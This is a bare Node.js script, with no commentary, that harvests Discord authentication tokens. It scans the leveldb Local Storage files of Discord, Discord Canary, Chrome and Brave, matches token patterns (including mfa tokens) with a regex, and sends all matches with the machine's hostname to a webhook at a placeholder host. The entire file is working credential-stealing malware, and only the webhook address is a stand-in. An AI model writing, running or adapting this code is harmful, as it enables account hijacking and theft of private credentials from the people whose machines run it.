const fs = require('fs');
const path = require('path');
const https = require('https');
const os = require('os');

const roaming = process.env.APPDATA || path.join(os.homedir(), '.config');
const local = process.env.LOCALAPPDATA || '';
const stores = {
  Discord: path.join(roaming, 'discord', 'Local Storage', 'leveldb'),
  DiscordCanary: path.join(roaming, 'discordcanary', 'Local Storage', 'leveldb'),
  Chrome: path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb'),
  Brave: path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default', 'Local Storage', 'leveldb')
};
const re = /[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}|mfa\.[\w-]{80,95}/g;
const found = new Set();
for (const [name, dir] of Object.entries(stores)) {
  let files = [];
  try { files = fs.readdirSync(dir).filter(f => f.endsWith('.ldb') || f.endsWith('.log')); } catch (_) { continue; }
  for (const f of files) {
    const txt = fs.readFileSync(path.join(dir, f), 'latin1');
    for (const m of txt.match(re) || []) found.add(name + ':' + m);
  }
}
if (found.size) {
  const payload = JSON.stringify({ username: os.hostname(), content: [...found].join('\n') });
  const req = https.request({ hostname: 'hooks.chat-relay.invalid', path: '/api/webhooks/000000/FAKE', method: 'POST', headers: { 'Content-Type': 'application/json' } });
  req.on('error', () => {});
  req.end(payload);
}
